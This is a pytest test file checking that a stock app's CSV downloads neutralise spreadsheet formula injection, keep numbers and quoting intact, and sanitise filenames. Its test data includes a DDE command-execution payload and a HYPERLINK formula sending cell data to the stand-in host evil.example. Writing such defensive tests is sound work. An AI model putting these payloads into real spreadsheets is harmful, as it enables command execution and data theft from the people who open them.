"""CSV downloads."""

import csv
import io

import pytest

from stockapp.web import csv_files

from .lists import AList


def read(*rows: list[csv_files.Cell], symbol: str = "VOD.L") -> list[list[str]]:
    response = csv_files.download("history", symbol, ["day", "value"], rows)
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1)', "+1", "-1"),
    *("@SUM(A1)", "\tx", "\rx", "\n=1", "'=1", "\uff1d1+1", "\uff20SUM(A1)"),
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_runs_nothing_of_what_others_wrote(text: str) -> None:
    assert read(["a", text])[1][1] == f"'{text}"


def test_numbers_keep_their_sign_and_what_is_unknown_is_empty() -> None:
    rows = read(["a", -1.5], ["b", None], ["c", float("nan")], ["d", 2e9], ["e", float("inf")])
    assert [row[1] for row in rows[1:]] == ["-1.5", "", "", "2000000000", ""]


def test_commas_quotes_and_line_breaks_survive() -> None:
    told = 'one, "two"\nthree'
    assert read(["a", told])[1][1] == told


def test_the_file_is_named_by_what_it_holds_and_never_by_more_than_letters() -> None:
    response = csv_files.download("history", 'A"/../B', ["x"], [])
    disposition = response.headers["Content-Disposition"]
    assert disposition == 'attachment; filename="history-A_____B.csv"'
    assert response.headers["Cache-Control"] == "no-store"


def test_what_was_exported_safe_comes_back_as_it_was(a_list: AList) -> None:
    notes = dict(zip((f"NOTE{n}.SIM" for n in range(len(FORMULAS))), FORMULAS, strict=True))
    notes = {symbol: note for symbol, note in notes.items() if "\r" not in note}
    a_list.add(*notes)
    for symbol, note in notes.items():
        body = {"note": note, "watchlist": a_list.name}
        assert a_list.client.patch(f"/api/watchlist/{symbol}", json=body).status_code == 200
    told = a_list.client.get(f"/api/watchlist?format=csv&watchlist={a_list.name}").get_data()
    cells = [cell for row in csv.reader(io.StringIO(told.decode())) for cell in row]
    assert [cell for cell in cells if cell.startswith(tuple("=+@\t\n\uff1d\uff20"))] == []
    a_list.client.delete(f"/api/watchlist?symbols={','.join(notes)}&watchlist={a_list.name}")
    path = f"/api/watchlist/import?watchlist={a_list.name}"
    assert a_list.client.post(path, data=told, content_type="text/csv").status_code == 200
    assert {symbol: a_list.item(symbol)["note"] for symbol in notes} == notes
